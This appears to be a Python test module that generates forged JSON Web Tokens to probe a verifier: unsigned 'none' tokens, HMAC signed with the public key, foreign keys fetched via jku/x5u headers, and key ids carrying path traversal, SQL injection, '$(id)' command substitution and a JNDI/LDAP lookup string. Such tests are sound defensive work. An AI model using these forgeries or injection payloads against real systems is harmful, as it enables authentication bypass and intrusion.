"""Tokens whose header asks for another algorithm, another key, or more than is understood."""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from tests.api.conftest import ISSUER, KID
from tests.api.hostile.forge import Forge, Kind, encode, head, jwk_of, part, signed


def unsigned_ones(forge: Forge) -> Iterator[str]:
    """`alg` none, in all its spellings, with and without a signature that was lifted from a good token."""
    _, body, signature = forge.good().split(".")
    for alg in ("none", "None", "NONE", "nOnE", "", None, "HS0"):
        for last in ("", signature):
            yield f"{part(head(alg=alg))}.{body}.{last}"
    yield f"{part({'kid': KID})}.{body}.{signature}"


def by_a_shared_secret(forge: Forge) -> Iterator[str]:
    """HMAC, whose secret is what everybody knows: the public key in its encodings, or the key set's secret."""
    public = forge.pool.key.public_key()
    formats = serialization.PublicFormat
    secrets = [
        public.public_bytes(serialization.Encoding.PEM, formats.SubjectPublicKeyInfo),
        public.public_bytes(serialization.Encoding.PEM, formats.SubjectPublicKeyInfo).strip(),
        public.public_bytes(serialization.Encoding.DER, formats.SubjectPublicKeyInfo),
        public.public_bytes(serialization.Encoding.PEM, formats.PKCS1),
        json.dumps(forge.pool.jwks()["keys"][0]).encode(),
        forge.pool.jwks()["keys"][0]["n"].encode(),
        b"secret",
        b"",
    ]
    for alg, digest in (("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)):
        for secret in secrets:
            kid = "secret" if secret == b"secret" else KID
            unsigned = f"{part(head(alg=alg, kid=kid))}.{part(forge.claims())}"
            yield f"{unsigned}.{encode(hmac.new(secret, unsigned.encode(), digest).digest())}"


def by_another_algorithm(forge: Forge) -> Iterator[str]:
    """Good signatures of the pool's own key, and of others, by what is not RS256."""
    for alg in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        yield jwt.encode(forge.claims(), forge.pool.key, algorithm=alg, headers={"kid": KID})
    for kid in (KID, "curve"):
        yield jwt.encode(forge.claims(), forge.curve, algorithm="ES256", headers={"kid": kid})
    edwards = ed25519.Ed25519PrivateKey.generate()
    yield jwt.encode(forge.claims(), edwards, algorithm="EdDSA", headers={"kid": KID})


def alg_that_says_something_else(forge: Forge) -> Iterator[str]:
    """Signed by RS256 as it must be, but the header says otherwise."""
    for alg in ("rs256", "RS256 ", "RSA-SHA256", "ES256", "HS256", ["RS256"], {"RS256": True}, 256, True, "ＲＳ２５６"):
        yield signed(head(alg=alg), forge.claims(), forge.pool.key)


def keys_that_it_brings_along(forge: Forge) -> Iterator[str]:
    """A stranger's signature, and in the header where to find the stranger's key."""
    pem = forge.stranger.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    for brought in (
        {"jwk": jwk_of(forge.stranger)},
        {"jku": "https://keys.example/jwks.json"},
        {"jku": f"{ISSUER}/.well-known/jwks.json"},
        {"x5u": "https://keys.example/chain.pem"},
        {"x5c": [base64.b64encode(pem).decode()]},
        {"x5t": encode(hashlib.sha1(pem).digest())},
        {"x5t#S256": encode(hashlib.sha256(pem).digest())},
    ):
        for kid in (KID, "stranger"):
            yield signed(head(kid=kid, **brought), forge.claims(), forge.stranger)


def critical_extensions(forge: Forge) -> Iterator[str]:
    """`crit`: what it names must be understood, and nothing is."""
    for crit in (["exp"], ["b64"], ["urn:example:new"], [], "exp", None, {}):
        yield signed(head(crit=crit), forge.claims(), forge.pool.key)
    yield signed(head(crit=["b64"], b64=False), forge.claims(), forge.pool.key)


def kids_of_others(forge: Forge) -> Iterator[str]:
    """Key ids that the pool has not, or has for another use, signed by the stranger and by the pool."""
    for kid in ("key-2", "", " ", KID + " ", KID.upper(), KID + "\x00", "encryption", "rs512", "curve", "secret"):
        for key in (forge.stranger, forge.pool.key):
            yield signed(head(kid=kid), forge.claims(), key)


def kids_of_wrong_types(forge: Forge) -> Iterator[str]:
    for kid in (None, 0, 1, True, [KID], {"kid": KID}, [[]]):
        yield signed(head(kid=kid), forge.claims(), forge.pool.key)
    yield signed({"alg": "RS256"}, forge.claims(), forge.pool.key)


def kids_that_are_paths(forge: Forge) -> Iterator[str]:
    for kid in ("../../../../dev/null", "/etc/passwd", "..\\..\\key.pem", f"../{KID}", f"{KID}/../{KID}", "file:///x"):
        yield signed(head(kid=kid), forge.claims(), forge.stranger)
        unsigned = f"{part(head(alg='HS256', kid=kid))}.{part(forge.claims())}"
        yield f"{unsigned}.{encode(hmac.new(b'', unsigned.encode(), hashlib.sha256).digest())}"


def kids_that_are_code(forge: Forge) -> Iterator[str]:
    for kid in (
        "key-1' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "key-1; DROP TABLE users",
        "$(id)",
        "{{7*7}}",
        "${jndi:ldap://keys.example/a}",
        "%s%n",
    ):
        yield signed(head(kid=kid), forge.claims(), forge.stranger)


def by_a_weak_key(forge: Forge) -> Iterator[str]:
    """Of 1,024 bits, though the pool publishes it; and of none that it does."""
    yield signed(head(kid="weak"), forge.claims(), forge.weak)
    yield signed(head(), forge.claims(), forge.weak)


def by_a_key_that_was_taken_away(forge: Forge) -> Iterator[str]:
    """Of a key that the pool does not publish any more, under its old name and under the one in force."""
    yield signed(head(kid="key-0"), forge.claims(), forge.stranger)
    yield signed(head(), forge.claims(), forge.stranger)
    yield signed(head(kid="key-0"), forge.access(), forge.stranger)


KINDS: tuple[Kind, ...] = (
    unsigned_ones,
    by_a_shared_secret,
    by_another_algorithm,
    alg_that_says_something_else,
    keys_that_it_brings_along,
    critical_extensions,
    kids_of_others,
    kids_of_wrong_types,
    kids_that_are_paths,
    kids_that_are_code,
    by_a_weak_key,
    by_a_key_that_was_taken_away,
)
